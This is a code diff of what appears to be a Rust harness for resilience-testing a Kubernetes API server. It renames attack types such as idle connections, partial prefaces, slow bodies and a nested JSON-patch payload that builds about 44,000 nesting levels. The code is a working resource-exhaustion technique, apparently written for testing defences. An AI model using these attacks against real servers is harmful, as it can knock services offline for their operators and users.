@@ -24,19 +24,19 @@ use super::attack::Attack;
 use super::{POD_NAME, TARGET_NAMESPACE};
 use crate::Failure;
 
-/// Maximum number of silent connections: as many as a server with the usual limit of file descriptors can
+/// Maximum number of idle connections: as many as a server with the usual limit of file descriptors can
 /// hold. The limit of the attacker may be lower.
-const SILENT_CONNECTIONS: usize = 20_000;
+const IDLE_CONNECTIONS_MAX: usize = 20_000;
 /// Delay after a refused attempt, so that the attacker spends its CPU time on attempts that may succeed.
 const REFUSED_DELAY: Duration = Duration::from_millis(20);
 /// Interval between bytes of a slow body; the server requires one every ten seconds.
 const BYTE_INTERVAL: Duration = Duration::from_secs(9);
 /// Length of a large body, just below the limit of 3 MiB.
 const LARGE_BODY_BYTES: usize = (3 << 20) - 1;
-/// Levels of nesting that one step of a patch bomb adds; a request may nest 128.
-const BOMB_STEP_LEVELS: usize = 110;
-/// Steps of a patch bomb: 44,000 levels in 400 KB.
-const BOMB_STEPS: usize = 400;
+/// Levels of nesting that one step of a patch adds; a request can have 128.
+const PATCH_STEP_LEVELS: usize = 110;
+/// Steps of a patch: 44,000 levels in 400 KB.
+const PATCH_STEPS: usize = 400;
 
 /// Flags of the attacker's process.
 #[derive(Clone, Debug, Args)]
@@ -115,9 +115,9 @@ pub(crate) fn run(flags: &Flags) -> Result<ExitCode, Failure> {
 async fn run_attack(attack: Attack, target: &Arc<Target>) {
     match attack {
         Attack::None => tokio::time::sleep_until(target.ends).await,
-        Attack::SilentConnections => hold_open(target, Some("")).await,
-        Attack::HalfPrefaces => hold_open(target, Some("PRI * HTT")).await,
-        Attack::SilentSockets => hold_open(target, None).await,
+        Attack::IdleConnections => hold_open(target, Some("")).await,
+        Attack::PartialPrefaces => hold_open(target, Some("PRI * HTT")).await,
+        Attack::IdleSockets => hold_open(target, None).await,
         Attack::Handshakes => in_parallel(target, 16, handshake).await,
         Attack::ForgedTokens => in_parallel(target, 64, |target| requests(target, forged_token)).await,
         Attack::SlowBodies => in_parallel(target, 200, slow_body).await,
@@ -125,7 +125,7 @@ async fn run_attack(attack: Attack, target: &Arc<Target>) {
         Attack::Requests => in_parallel(target, 64, |target| requests(target, access_review)).await,
         Attack::Watches => in_parallel(target, 2_000, watch).await,
         Attack::Lists => in_parallel(target, 16, |target| requests(target, list)).await,
-        Attack::PatchBombs => in_parallel(target, 8, |target| requests(target, patch_bomb)).await,
+        Attack::NestedPatches => in_parallel(target, 8, |target| requests(target, nested_patch)).await,
         Attack::ProxiedRequests => in_parallel(target, 600, |target| requests(target, proxied)).await,
     }
 }
@@ -156,7 +156,7 @@ where
 async fn hold_open(target: &Arc<Target>, first: Option<&str>) {
     let mut connections = Vec::new();
     while Instant::now() < target.ends {
-        if connections.len() >= SILENT_CONNECTIONS {
+        if connections.len() >= IDLE_CONNECTIONS_MAX {
             sleep(REFUSED_DELAY).await;
             continue;
         }
@@ -271,15 +271,15 @@ fn proxied(target: &Target) -> Vec<u8> {
 }
 
 /// JSON patch whose operations are shallow and build a deeply nested tree by moves.
-fn patch_bomb(target: &Target) -> Vec<u8> {
-    let nest = "{\"a\":".repeat(BOMB_STEP_LEVELS) + "{}" + &"}".repeat(BOMB_STEP_LEVELS);
-    let pointer = "/a".repeat(BOMB_STEP_LEVELS);
+fn nested_patch(target: &Target) -> Vec<u8> {
+    let nest = "{\"a\":".repeat(PATCH_STEP_LEVELS) + "{}" + &"}".repeat(PATCH_STEP_LEVELS);
+    let pointer = "/a".repeat(PATCH_STEP_LEVELS);
     let step = format!(
         r#",{{"op":"add","path":"/n","value":{nest}}},{{"op":"move","from":"/x","path":"/n{pointer}/a"}},{{"op":"move","from":"/n","path":"/x"}}"#
     );
     let body = format!(
         r#"[{{"op":"add","path":"/x","value":{{}}}}{}]"#,
-        step.repeat(BOMB_STEPS)
+        step.repeat(PATCH_STEPS)
     );
     let path = format!("/api/v1/namespaces/{TARGET_NAMESPACE}/configmaps/patched?dryRun=All");
     with_body(target, "PATCH", &path, "application/json-patch+json", &body)
